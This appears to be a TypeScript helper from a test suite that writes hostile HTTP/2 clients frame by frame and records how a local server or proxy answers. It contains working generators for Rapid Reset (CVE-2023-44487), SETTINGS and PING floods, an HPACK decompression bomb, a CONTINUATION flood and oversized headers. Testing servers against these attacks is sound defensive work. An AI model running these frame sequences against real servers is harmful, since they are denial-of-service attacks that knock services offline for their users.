import { connect } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { hpackBlock } from '../http2/helpers/raw-h2.js';

// Hostile HTTP/2 clients, frame by frame: each attack is a sequence of frames written as fast as
// the socket takes them, and the outcome is what the server sent back (GOAWAY, RST_STREAM, HEADERS).

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
export const FRAME = Object.freeze({
  DATA: 0x0,
  HEADERS: 0x1,
  RST_STREAM: 0x3,
  SETTINGS: 0x4,
  PING: 0x6,
  GOAWAY: 0x7,
  CONTINUATION: 0x9,
});
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
/** HTTP/2 error codes (RFC 9113 §7). */
export const H2_ERROR = Object.freeze({ NO_ERROR: 0, PROTOCOL_ERROR: 1, CANCEL: 8, ENHANCE_YOUR_CALM: 11 });

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

const GET_BLOCK = hpackBlock([
  [':method', 'GET'],
  [':scheme', 'http'],
  [':path', '/attack'],
  [':authority', 'victim.test'],
]);

/** What the server did during an attack. */
export interface AttackOutcome {
  /** Frames of the attack written before the server closed the connection (or all of them). */
  readonly framesSent: number;
  /** The GOAWAY error code the server sent, if any. */
  readonly goawayCode: number | undefined;
  /** RST_STREAM frames received, by error code. */
  readonly resets: ReadonlyMap<number, number>;
  /** Response HEADERS received. */
  readonly answered: number;
  /** The server closed the connection (rather than the attack ending it). */
  readonly closedByServer: boolean;
  readonly elapsedMs: number;
}

export interface AttackOptions {
  /** Read the server's frames while attacking (a flood that wants ACKs queued does not). @defaultValue true */
  readonly read?: boolean;
  /** Give up waiting for the server's verdict after the attack, ms. @defaultValue 2000 */
  readonly settleMs?: number;
  /** Speak h2 over TLS (ALPN, certificate not verified) instead of h2c. @defaultValue false */
  readonly tls?: boolean;
}

/**
 * Connects to `port`, sends the preface and an empty SETTINGS, then the attack's frames (at most
 * `frames.length`, stopping when the server closes), and collects what the server sent until it
 * closes or `settleMs` passes.
 */
export function runAttack(
  port: number,
  frames: readonly Buffer[],
  options: AttackOptions = {},
): Promise<AttackOutcome> {
  const read = options.read ?? true;
  const started = performance.now();
  return new Promise((resolve) => {
    const socket = options.tls
      ? tlsConnect({ port, host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false })
      : connect(port, '127.0.0.1');
    const resets = new Map<number, number>();
    let goawayCode: number | undefined;
    let answered = 0;
    let sent = 0;
    let closedByServer = false;
    let finished = false;
    let buffered: Buffer = Buffer.alloc(0);
    let settle: NodeJS.Timeout | undefined;
    const finish = () => {
      if (finished) return;
      finished = true;
      clearTimeout(settle);
      socket.destroy();
      resolve({
        framesSent: sent,
        goawayCode,
        resets,
        answered,
        closedByServer,
        elapsedMs: performance.now() - started,
      });
    };
    socket.on('error', () => undefined);
    socket.on('close', () => {
      closedByServer ||= !finished;
      finish();
    });
    socket.on('data', (data: Buffer) => {
      buffered = buffered.length === 0 ? data : Buffer.concat([buffered, data]);
      // One pass per complete frame in the buffer.
      while (buffered.length >= 9) {
        const length = buffered.readUIntBE(0, 3);
        if (buffered.length < 9 + length) break;
        const type = buffered.readUInt8(3);
        const flags = buffered.readUInt8(4);
        const payload = buffered.subarray(9, 9 + length);
        buffered = buffered.subarray(9 + length);
        if (type === FRAME.SETTINGS && (flags & 1) === 0) socket.write(frame(FRAME.SETTINGS, 1, 0));
        // The first GOAWAY carries the reason; a server may follow it with a final one.
        else if (type === FRAME.GOAWAY) goawayCode ??= payload.readUInt32BE(4);
        else if (type === FRAME.RST_STREAM) {
          const code = payload.readUInt32BE(0);
          resets.set(code, (resets.get(code) ?? 0) + 1);
        } else if (type === FRAME.HEADERS) answered++;
      }
    });
    if (!read) socket.pause();
    socket.on(options.tls ? 'secureConnect' : 'connect', async () => {
      socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]));
      // Written in slices of 256 frames, waiting for drain: the loop is bounded by frames.length.
      for (let i = 0; i < frames.length && !socket.destroyed; i += 256) {
        const slice = frames.slice(i, i + 256);
        const ok = socket.write(Buffer.concat(slice));
        sent += slice.length;
        if (!ok) {
          const drained = await new Promise<boolean>((r) => {
            socket.once('drain', () => r(true));
            socket.once('close', () => r(false));
          });
          if (!drained) break;
        }
      }
      socket.resume();
      settle = setTimeout(finish, options.settleMs ?? 2000);
    });
  });
}

/** `count` streams, each opened (a GET, END_STREAM) and at once reset with CANCEL: CVE-2023-44487. */
export function rapidReset(count: number): Buffer[] {
  const frames: Buffer[] = [];
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(H2_ERROR.CANCEL);
  for (let i = 0; i < count; i++) {
    const id = 2 * i + 1;
    frames.push(
      Buffer.concat([
        frame(FRAME.HEADERS, END_STREAM | END_HEADERS, id, GET_BLOCK),
        frame(FRAME.RST_STREAM, 0, id, cancel),
      ]),
    );
  }
  return frames;
}

/** `count` SETTINGS frames (each changing the initial window size), every one owed an ACK. */
export function settingsFlood(count: number): Buffer[] {
  const entry = Buffer.alloc(6);
  entry.writeUInt16BE(0x4, 0); // SETTINGS_INITIAL_WINDOW_SIZE
  entry.writeUInt32BE(65_535, 2);
  const one = frame(FRAME.SETTINGS, 0, 0, entry);
  return Array.from({ length: count }, () => one);
}

/** `count` PING frames, every one owed an ACK. */
export function pingFlood(count: number): Buffer[] {
  const one = frame(FRAME.PING, 0, 0, Buffer.alloc(8, 7));
  return Array.from({ length: count }, () => one);
}

/**
 * An HPACK bomb: one header block that adds a `valueBytes` field to the dynamic table, then
 * refers to it `references` times with one-byte indexed fields: a few KB on the wire that decode
 * to `valueBytes × references` bytes of headers.
 */
export function hpackBomb(valueBytes: number, references: number): Buffer[] {
  const name = Buffer.from('x-bomb', 'latin1');
  const value = Buffer.alloc(valueBytes, 0x61);
  const lengthOf = (n: number): number[] => (n < 127 ? [n] : [127, ...varint(n - 127)]);
  const literal = Buffer.concat([Buffer.from([0x40, name.length]), name, Buffer.from(lengthOf(value.length)), value]);
  // Index 62 is the newest dynamic-table entry (61 static entries before it): 0x80 | 62.
  const block = Buffer.concat([GET_BLOCK, literal, Buffer.alloc(references, 0x80 | 62)]);
  return splitHeaderBlock(1, block, END_STREAM);
}

function varint(n: number): number[] {
  const out: number[] = [];
  let rest = n;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return out;
}

/** A header block over HEADERS + CONTINUATION frames of at most 16 KiB each (the default max frame size). */
function splitHeaderBlock(stream: number, block: Buffer, flags: number): Buffer[] {
  const max = 16_384;
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += max) {
    const last = at + max >= block.length;
    const type = at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION;
    frames.push(frame(type, (at === 0 ? flags : 0) | (last ? END_HEADERS : 0), stream, block.subarray(at, at + max)));
  }
  return frames;
}

/** A header block that never ends: HEADERS without END_HEADERS, then `count` CONTINUATION frames of `bytes` each. */
export function continuationFlood(count: number, bytes: number): Buffer[] {
  const filler = hpackBlock([['x-pad', 'p'.repeat(Math.max(0, bytes - 10))]]);
  return [
    frame(FRAME.HEADERS, END_STREAM, 1, GET_BLOCK),
    ...Array.from({ length: count }, () => frame(FRAME.CONTINUATION, 0, 1, filler)),
  ];
}

/** One request whose single header field value is `bytes` long (beyond the proxy's maxHeaderSize). */
export function oversizedHeader(bytes: number): Buffer[] {
  return splitHeaderBlock(1, Buffer.concat([GET_BLOCK, hpackBlock([['x-big', 'b'.repeat(bytes)]])]), END_STREAM);
}
